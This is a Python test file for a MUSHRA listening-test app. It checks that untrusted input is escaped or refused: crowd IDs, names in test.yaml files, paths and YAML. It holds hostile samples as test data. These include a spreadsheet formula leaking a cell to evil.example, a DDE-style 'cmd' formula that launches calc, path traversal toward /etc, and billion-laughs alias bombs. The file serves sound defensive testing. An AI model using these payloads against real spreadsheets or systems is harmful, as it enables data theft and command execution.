"""What strangers and stray files put into a MUSHRA test: crowd IDs that a spreadsheet would run
as formulas, control characters, test.yaml files naming files outside their folder, and YAML
alias bombs. Crowd IDs go in over HTTP, against the real app on 127.0.0.1."""

from __future__ import annotations

import csv
import re
import time
import tracemalloc

import httpx
import pytest
import yaml
from sqlalchemy import update

from codecbench.app import AppSettings, launch
from codecbench.listening_test.bounded_yaml import MAX_ALIAS_NODES
from codecbench.listening_test.spec import SpecError
from codecbench.listening_test.spec_yaml import parse_test_spec
from codecbench.storage import open_database
from codecbench.storage.listening_tables import ParticipantRow
from codecbench.untrusted_text import spreadsheet_safe, terminal_safe
from tests.browser import free_port
from tests.cli_runner import run_cli
from tests.mushra_helpers import complete, prepare, start, store, write_test_files

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2", "-2+3")


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    folder = tmp_path_factory.mktemp("untrusted")
    database_url = f"sqlite:///{folder / 'db.sqlite3'}"
    database = open_database(database_url)
    test = store(database, prepare(write_test_files(
        folder / "test", num_items=2, duration_s=1.0, training=False, level_check=False,
        crowd={"sessions_per_address_per_hour": 20})))
    settings = AppSettings(work_dir=folder / "work", database_url=database_url)
    server, url = launch(settings, host="127.0.0.1", port=free_port(), block=False)
    yield {"api": url + "mushra-api", "test": test, "database": database, "url": database_url, "folder": folder}
    server.close()
    database.close()


def complete_session(study, crowd_id: str) -> None:
    """A participant with this crowd ID rates every trial over HTTP, pacing as the server requires."""
    with httpx.Client(timeout=30) as browser:
        started = browser.post(f"{study['api']}/sessions", json={"test": study["test"].link_token,
                                                                  "params": {"PROLIFIC_PID": crowd_id}})
        assert started.status_code == 200, started.text
        token = started.json()["session_token"]
        view = browser.post(f"{study['api']}/sessions/{token}/advance", json={"from_stage": "instructions"}).json()
        while view["stage"] == "trials":
            trial = view["trial"]
            stimuli = [s["token"] for s in trial["stimuli"]]
            for stimulus in [trial["reference_token"], *stimuli]:
                assert browser.get(f"{study['api']}/stimuli/{stimulus}").status_code == 200
            for stimulus in stimuli:
                browser.post(f"{study['api']}/sessions/{token}/plays",
                             json={"stimulus": stimulus, "kind": "start", "position_s": 0, "listened_s": 0})
            time.sleep(0.5 * len(stimuli) + 0.2)
            ratings = {stimulus: 42.5 for stimulus in stimuli}
            submitted = browser.post(f"{study['api']}/sessions/{token}/trials/{trial['token']}", json={"ratings": ratings})
            assert submitted.status_code == 200, submitted.text
            view = submitted.json()["view"]
        assert view["stage"] == "complete", view


def test_crowd_ids_that_are_formulas_are_exported_as_text_and_ratings_stay_numbers(study, tmp_path):
    for crowd_id in FORMULAS[:2]:
        complete_session(study, crowd_id)
    exported = tmp_path / "ratings.csv"
    completed = run_cli("mushra", "export", str(study["test"].id), "--screening", "none", "-o", str(exported),
                        "--db", study["url"])
    assert completed.returncode == 0, completed.stderr
    with exported.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["participant"] for row in rows} == {"'" + crowd_id for crowd_id in FORMULAS[:2]}
    assert {row["rating"] for row in rows} == {"42.5"}  # numbers are not touched
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)


def test_results_print_control_characters_escaped(study):
    with httpx.Client(timeout=30) as browser:  # refused at the door
        refused = browser.post(f"{study['api']}/sessions", json={"test": study["test"].link_token,
                                                                  "params": {"PROLIFIC_PID": "evil\u202egnp.exe"}})
        assert refused.status_code == 403 and "control characters" in refused.json()["detail"]
    with study["database"].session() as session:  # stored before IDs were checked at the door
        participant = session.scalars(ParticipantRow.__table__.select().with_only_columns(ParticipantRow.id)
                                      .where(ParticipantRow.test_id == study["test"].id)).first()
        session.execute(update(ParticipantRow).where(ParticipantRow.id == participant)
                        .values(external_id="evil\u202egnp.exe\x1b[2J\x00"))
    completed = run_cli("mushra", "results", str(study["test"].id), "--screening", "none", "--db", study["url"])
    assert completed.returncode == 0, completed.stderr
    assert "evil\\u202egnp.exe\\x1b[2J\\x00" in completed.stdout
    assert not any(character in completed.stdout for character in "\u202e\x1b\x00")


def test_names_from_test_yaml_are_escaped_in_every_csv_cell_and_terminal_line(tmp_path):
    """Item, condition and test names come from a test.yaml that someone else may have written."""
    spec_path = write_test_files(tmp_path / "t", num_items=2, duration_s=1.0, training=False, level_check=False, crowd={})
    document = yaml.safe_load(spec_path.read_text())
    document["name"] = "study\u202e\x07"
    document["items"] = [{"name": "=cmd|' /C calc'!A0", "path": document["items"][0]},
                         {"name": "@SUM(1)\u202e", "path": document["items"][1]}]
    document["conditions"][0]["name"] = "+opus"
    spec_path.write_text(yaml.safe_dump(document))
    url = f"sqlite:///{tmp_path / 'db.sqlite3'}"
    database = open_database(url)
    test = store(database, prepare(spec_path))
    complete(database, start(database, test, PROLIFIC_PID="-2+3"), rate=lambda condition: 0.0 if condition == "+opus" else 42.5)
    database.close()

    exported = tmp_path / "ratings.csv"
    assert run_cli("mushra", "export", str(test.id), "-o", str(exported), "--db", url).returncode == 0
    with exported.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["item"] for row in rows} == {"'=cmd|' /C calc'!A0", "'@SUM(1)\u202e"}
    assert {row["participant"] for row in rows} == {"'-2+3"} and "'+opus" in {row["condition"] for row in rows}
    assert {row["rating"] for row in rows} == {"0.0", "42.5"}  # numbers are not touched
    for args in (["results", str(test.id), "--per-item"], ["list"]):
        completed = run_cli("mushra", *args, "--db", url)
        assert completed.returncode == 0, completed.stderr
        assert "\\u202e" in completed.stdout and not any(c in completed.stdout for c in "\u202e\x07"), args


def test_the_helpers_escape_only_what_needs_it():
    import pandas as pd

    frame = pd.DataFrame({"id": ["=1+1", "alice", "-x", "\tx", None], "rating": [-3.5, 0.0, 1.0, 2.0, 3.0]})
    safe = spreadsheet_safe(frame)
    assert safe["id"].tolist()[:4] == ["'=1+1", "alice", "'-x", "'\tx"] and pd.isna(safe["id"].iloc[4])
    assert safe["rating"].tolist() == [-3.5, 0.0, 1.0, 2.0, 3.0] and safe["rating"].dtype == float
    assert terminal_safe("a\u202eb\nc\td\x07") == "a\\u202eb\nc\td\\x07"
    assert terminal_safe("naïve 中文") == "naïve 中文"


def write_outside_spec(folder, item: str):
    (folder / "test.yaml").write_text(f"name: t\nitems: [{item}]\nconditions: [{{codec: opus, bitrate_kbps: 6}}]\n")
    return folder / "test.yaml"


def test_test_yaml_files_outside_its_folder_are_refused_unless_allowed(tmp_path):
    spec_path = write_test_files(tmp_path / "elsewhere", num_items=1, duration_s=1.0)
    outside = spec_path.parent / "clips" / "utt0.wav"
    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "link.wav").symlink_to(outside)
    for item in (f"{outside}", "../elsewhere/clips/utt0.wav", "link.wav", "~/../../etc/hostname"):
        with pytest.raises(SpecError, match=r"items\[0\]: .* is outside the test's folder .*--allow-outside-paths"):
            parse_test_spec(f"name: t\nitems: ['{item}']\nconditions: [{{codec: opus, bitrate_kbps: 6}}]\n",
                            base_dir=folder, source="test.yaml")
    spec = parse_test_spec(f"name: t\nitems: ['{outside}']\nconditions: [{{codec: opus, bitrate_kbps: 6}}]\n",
                           base_dir=folder, allow_outside_paths=True)
    assert spec.items[0].path == outside

    database = f"sqlite:///{tmp_path / 'db.sqlite3'}"
    refused = run_cli("mushra", "create", str(write_outside_spec(folder, "../elsewhere/clips/utt0.wav")), "--db", database)
    assert refused.returncode == 1 and "is outside the test's folder" in refused.stderr
    allowed = run_cli("mushra", "create", str(folder / "test.yaml"), "--allow-outside-paths", "--db", database)
    assert allowed.returncode == 0, allowed.stderr


def test_a_file_condition_outside_the_folder_is_refused_naming_the_item_and_where_the_path_leads(tmp_path):
    folder, other = tmp_path / "study", tmp_path / "other"
    folder.mkdir()
    other.mkdir()
    for name in ("a.wav", "b.wav"):
        (folder / name).write_bytes(b"")
        (other / name).write_bytes(b"")
    (folder / "mine").symlink_to(other)
    for pattern, shown_path in (("../other/{item}.wav", "'../other/a.wav'"), ("mine/{item}.wav", "'mine/a.wav'")):
        text = f"name: t\nitems: [a.wav, b.wav]\nconditions: [{{name: mine, files: '{pattern}'}}]\n"
        with pytest.raises(SpecError) as error:
            parse_test_spec(text, base_dir=folder)
        assert (f"conditions[0].files: {shown_path} (item a) (that is {other / 'a.wav'}) is outside the test's folder "
                f"{folder}") in str(error.value)
        assert parse_test_spec(text, base_dir=folder, allow_outside_paths=True).conditions[0].files["b"] == other / "b.wav"


def test_a_yaml_alias_bomb_is_refused_with_a_short_message(tmp_path):
    levels = "".join(f"{name}: &{name} [{', '.join(['*' + previous] * 9)}]\n"
                     for previous, name in zip("abcdefg", "bcdefgh"))
    bomb = tmp_path / "test.yaml"
    bomb.write_text("name: bomb\nitems: [a.wav]\nconditions: [{codec: opus, bitrate_kbps: 6}]\n"
                    "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + levels + "training: *h\n")
    assert bomb.stat().st_size < 600
    completed = run_cli("mushra", "create", str(bomb), "--db", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    assert completed.returncode == 1 and len(completed.stderr) < 400
    assert f"its aliases stand for more than {MAX_ALIAS_NODES} values in all" in completed.stderr


def test_a_billion_laughs_inside_training_is_refused_before_anything_is_built(tmp_path):
    """The classic: ten levels of ten aliases, 10**10 values from a file of about 900 bytes."""
    levels = "".join(f"  l{level}: &l{level} [{', '.join([f'*l{level - 1}'] * 10)}]\n" for level in range(1, 10))
    text = ("name: bomb\nitems: [a.wav]\nconditions: [{codec: opus, bitrate_kbps: 6}]\ntraining:\n"
            f"  l0: &l0 [{', '.join(['lol'] * 10)}]\n{levels}")
    assert len(text) < 1000
    tracemalloc.start()
    try:
        with pytest.raises(SpecError) as error:
            parse_test_spec(text, base_dir=tmp_path)
        _, peak_bytes = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak_bytes < 2_000_000
    assert str(error.value).startswith("test.yaml: line 8: its aliases stand for more than 10000 values in all")
    assert len(str(error.value)) < 250


@pytest.mark.parametrize(("text", "message"), [
    ("training: " + "9" * 5000, "cannot read '9999"),  # Python reads at most 4300 digits: was a traceback
    ("training: 2001-13-45", "cannot read '2001-13-45' (month must be in 1..12)"),  # was a traceback
    ("training: " + "[" * 5000 + "]" * 5000, "line 4: nests lists and mappings more than 20 levels deep"),
    ("training: *" + "x" * 100_000, "names no anchor"),  # the parser's message quoted the whole name
    ("\n".join(f"k{n}: 1" for n in range(30_000)), "unknown key(s) k0, k1, k2, k3, k4, k5, k6, k7, k8, k9 and 29990 more"),
    ("instructions: [" + ", ".join(["1"] * 120_000) + "]", "holds more than 100000 values"),
])
def test_hostile_yaml_gets_one_short_message(tmp_path, text, message):
    spec = tmp_path / "test.yaml"
    spec.write_text("name: t\nitems: [a.wav]\nconditions: [{codec: opus, bitrate_kbps: 6}]\n" + text + "\n")
    completed = run_cli("mushra", "create", str(spec), "--db", f"sqlite:///{tmp_path / 'db.sqlite3'}")
    assert completed.returncode == 1
    assert "Traceback" not in completed.stderr and len(completed.stderr) < 500, completed.stderr[-2000:]
    assert message in completed.stderr


@pytest.mark.parametrize(("item", "message"), [
    ("~nosuchuser/a.wav", "'~nosuchuser/a.wav' is not a usable path (Could not determine home directory.)"),
    ('"a\\0.wav"', r"'a\x00.wav' is not a usable path (embedded null byte)"),
    ("a" * 300 + ".wav", "cannot be opened (File name too long)"),  # was a traceback
    ("clips", "clips: is a folder; name an audio file."),
])
def test_item_paths_that_are_no_file_get_one_short_message(tmp_path, item, message):
    (tmp_path / "clips").mkdir()
    with pytest.raises(SpecError) as error:
        parse_test_spec(f"name: t\nitems: [{item}]\nconditions: [{{codec: opus, bitrate_kbps: 6}}]\n", base_dir=tmp_path)
    assert message in str(error.value) and len(str(error.value)) < 400


def test_names_longer_than_the_database_keeps_are_refused_before_any_stimulus(tmp_path):
    (tmp_path / "a.wav").write_bytes(b"")
    base = "name: t\nitems: [a.wav]\nconditions: [{codec: opus, bitrate_kbps: 6}]\n"
    for text, where in ((base.replace("name: t", "name: " + "n" * 201), "name:"),
                        (base + "crowd: {completion_code: " + "C" * 65 + "}\n", "crowd.completion_code:"),
                        (base.replace("[a.wav]", "[{name: " + "i" * 201 + ", path: a.wav}]"), "items[0].name:")):
        with pytest.raises(SpecError, match=rf"{re.escape(where)} '.*' is \d+ characters long; it may have at most \d+"):
            parse_test_spec(text, base_dir=tmp_path)


def test_small_aliases_are_allowed_and_a_large_value_is_quoted_short(tmp_path):
    (tmp_path / "a.wav").write_bytes(b"")
    text = ("name: t\nitems: [a.wav]\nconditions: [{codec: opus, bitrate_kbps: &rate 6}, {codec: opus, bitrate_kbps: *rate, name: again}]\n"
            f"training: [{', '.join(str(n) for n in range(5000))}]\n")
    with pytest.raises(SpecError) as error:
        parse_test_spec(text, base_dir=tmp_path)
    assert "training: expected true or false, got [0, 1, 2, 3, 4, ...]" in str(error.value)
    assert len(str(error.value)) < 200
